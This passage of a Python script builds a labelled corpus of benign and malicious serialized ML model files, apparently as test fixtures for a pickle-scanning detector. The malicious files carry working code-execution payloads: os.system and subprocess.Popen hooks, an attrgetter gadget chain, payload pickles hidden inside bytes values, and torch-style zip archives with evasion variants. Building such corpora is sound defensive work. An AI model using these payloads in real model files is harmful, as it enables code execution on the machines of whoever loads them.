            "protocol 4: names memoized, popped, re-fetched with BINGET before STACK_GLOBAL",
        ),
    }
    for name, (data, payload, kind) in crafted.items():
        rel = f"malicious/crafted/{name}.pkl"
        write_bytes(rel, data)
        malicious(rel, fam, f"(g) {kind}", payload)
    rel = "malicious/crafted/generated.p0.pkl"
    pickle_file(rel, Evil(), 0)
    malicious(rel, fam, "pickle.dump(Evil(), protocol=0)", SYSTEM)
    rel = "malicious/crafted/popen.p5.pkl"
    pickle_file(rel, {"hook": EvilPopen()}, 5)
    malicious(rel, fam, "subprocess.Popen payload, protocol 5", "subprocess.Popen")

    # (h) callables that become dangerous when called or chained.
    for p in (2, 4):
        rel = f"malicious/crafted/partial_system.p{p}.pkl"
        pickle_file(rel, functools.partial(os.system, "echo pwned"), p)
        malicious(rel, fam, f"(h) functools.partial(os.system, 'echo pwned'), protocol {p}", SYSTEM)
    rel = "malicious/crafted/attrgetter_globals.p4.pkl"
    pickle_file(rel, operator.attrgetter("__globals__"), 4)
    malicious(rel, fam, "(h) operator.attrgetter('__globals__')", "operator.attrgetter")
    chain = Call(
        Call(operator.attrgetter("system"), Call(operator.itemgetter("os"), Call(operator.attrgetter("__globals__"), posixpath.join))),
        "echo pwned",
    )
    for p in (0, 4):
        rel = f"malicious/crafted/attrgetter_chain.p{p}.pkl"
        pickle_file(rel, chain, p)
        malicious(
            rel,
            fam,
            f"(h) attrgetter('__globals__')(posixpath.join)['os'].system('echo pwned') gadget chain, protocol {p}",
            "operator.attrgetter",
        )

    # (i) a pickle carried as a bytes value inside another pickle.
    inner = pickle.dumps(Evil(), protocol=4)
    for p in (0, 2, 4):
        rel = f"malicious/crafted/nested_bytes.p{p}.pkl"
        pickle_file(rel, {"weights": np.arange(4.0), "extra_state": inner}, p)
        how = "BINBYTES" if p >= 3 else "_codecs.encode(latin-1 str)"
        malicious(rel, fam, f"(i) payload pickle inside a bytes value ({how}), protocol {p}", SYSTEM)
    rel = "malicious/crafted/nested_bytearray.p5.pkl"
    pickle_file(rel, [bytearray(pickle.dumps(Evil(), protocol=2))], 5)
    malicious(rel, fam, "(i) payload pickle inside a bytearray (protocol 5 BYTEARRAY8)", SYSTEM)


def sklearn_models_small():
    from sklearn.linear_model import LogisticRegression

    return LogisticRegression().fit(X, y_cls)


class _FakeTorch:
    """Registers stand-in `torch` modules so pickle writes the globals torch.save writes.

    Only used at the very end, after every real library is done, and removed afterwards.
    """

    def __enter__(self):
        torch = types.ModuleType("torch")
        utils = types.ModuleType("torch._utils")

        def _rebuild_tensor_v2(*args):
            raise RuntimeError("stand-in")

        _rebuild_tensor_v2.__module__ = "torch._utils"
        _rebuild_tensor_v2.__qualname__ = "_rebuild_tensor_v2"
        FloatStorage = type("FloatStorage", (), {"__module__": "torch"})
        utils._rebuild_tensor_v2 = _rebuild_tensor_v2
        torch._utils = utils
        torch.FloatStorage = FloatStorage
        self.saved = {k: sys.modules.get(k) for k in ("torch", "torch._utils")}
        sys.modules["torch"], sys.modules["torch._utils"] = torch, utils
        return torch

    def __exit__(self, *exc):
        for k, v in self.saved.items():
            if v is None:
                sys.modules.pop(k, None)
            else:
                sys.modules[k] = v


def torch_like_data_pkl(torch):
    class Storage:
        def __init__(self, key, numel):
            self.key, self.numel = key, numel

    class Tensor:
        def __init__(self, storage, shape):
            self.storage, self.shape = storage, shape

        def __reduce_ex__(self, protocol):
            stride = (self.shape[1], 1)
            args = (self.storage, 0, self.shape, stride, False, collections.OrderedDict())
            return (torch._utils._rebuild_tensor_v2, args)

    class TorchPickler(pickle.Pickler):
        def persistent_id(self, obj):
            if isinstance(obj, Storage):
                return ("storage", torch.FloatStorage, obj.key, "cpu", obj.numel)
            return None

    state = collections.OrderedDict(
        [("linear.weight", Tensor(Storage("0", 6), (2, 3))), ("linear.bias", Tensor(Storage("1", 2), (2, 1)))]
    )
    buf = io.BytesIO()
    TorchPickler(buf, protocol=2).dump({"state_dict": state, "hook": Evil()})
    return buf.getvalue()


class _Unseekable:
    """A write-only stream: zipfile then writes sizes in data descriptors after each member."""

    def __init__(self, f):
        self._f = f

    def write(self, b):
        return self._f.write(b)

    def flush(self):
        self._f.flush()


def write_malicious_torch_zips():
    fam = "torchzip"
    with _FakeTorch() as torch:
        data_pkl = torch_like_data_pkl(torch)
    members = [
        ("archive/data.pkl", data_pkl),
        ("archive/byteorder", b"little"),
        ("archive/data/0", np.arange(6, dtype="<f4").tobytes()),
        ("archive/data/1", np.zeros(2, dtype="<f4").tobytes()),
        ("archive/version", b"3\n"),
        ("archive/.data/serialization_id", b"0123456789012345678901234567890123456789"),
    ]

    def write_zip(fileobj, compression, zip64):
        with zipfile.ZipFile(fileobj, "w", compression=compression) as z:
            for name, data in members:
                info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
                info.compress_type = compression
                with z.open(info, "w", force_zip64=zip64) as f:
                    f.write(data)

    variants = [
        ("stored", zipfile.ZIP_STORED, False, False, "stored members, like torch.save"),
        ("zip64", zipfile.ZIP_STORED, True, False, "every member forced to zip64 (force_zip64=True)"),
        ("data_descriptor", zipfile.ZIP_STORED, False, True, "written through a non-seekable stream: sizes in data descriptors"),
        ("data_descriptor_deflated", zipfile.ZIP_DEFLATED, False, True, "deflated members + data descriptors"),
        ("data_descriptor_zip64", zipfile.ZIP_STORED, True, True, "zip64 + data descriptors"),
    ]
    for name, compression, zip64, unseekable, kind in variants:
        rel = f"malicious/torchzip/{name}.pt"
        with open(path(rel), "wb") as f:
            write_zip(_Unseekable(f) if unseekable else f, compression, zip64)
        malicious(rel, fam, f"(j) torch-style zip, archive/data.pkl carries the payload: {kind}", SYSTEM)
    rel = "malicious/torchzip/legacy_pickle.pt"
    write_bytes(rel, data_pkl)
    malicious(rel, fam, "torch-style data.pkl (persistent-id storages) as a bare pickle", SYSTEM)


# --------------------------------------------------------------------------- main


def main():
    start = time.perf_counter()
    os.makedirs(OUT, exist_ok=True)
    _fixed_clock()
    keras = keras_module()
    write_numpy()
    write_joblib()
    write_sklearn()
    write_pandas()
    write_scipy()
    write_stdlib()
    write_safetensors()
    if keras is not None:
        write_keras(keras)
    write_malicious_numpy()
    write_malicious_joblib()
    write_malicious_sklearn()
    write_malicious_pandas()
    write_malicious_crafted()
    write_malicious_torch_zips()

    versions = {
        "numpy": np.__version__,
        "sklearn": sklearn.__version__,
        "pandas": pd.__version__,
        "scipy": scipy.__version__,
        "joblib": joblib.__version__,
    }
    for mod in ("safetensors", "lz4", "keras"):
        if mod in sys.modules:
            versions[mod] = getattr(sys.modules[mod], "__version__", "?")
    names = [f["file"] for f in FILES]
    assert len(names) == len(set(names)), "duplicate file names"
    manifest = {
        "python": sys.version.split()[0],
        "versions": versions,
        "skipped": SKIPPED,
        "files": FILES,
    }
    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(manifest, f, indent=1, sort_keys=False)
        f.write("\n")

    counts = collections.Counter((f["label"], f["family"]) for f in FILES)
    total = sum(os.path.getsize(os.path.join(OUT, f["file"])) for f in FILES)
    for (label, family), n in sorted(counts.items()):
        print(f"{label:9} {family:12} {n:4}")
    print(
        f"{sum(1 for f in FILES if f['label'] == 'benign')} benign, "
        f"{sum(1 for f in FILES if f['label'] == 'malicious')} malicious, "
        f"{total / 1e6:.2f} MB, {time.perf_counter() - start:.1f} s"
    )
    for why in SKIPPED:
        print("skipped:", why)


if __name__ == "__main__":
    main()
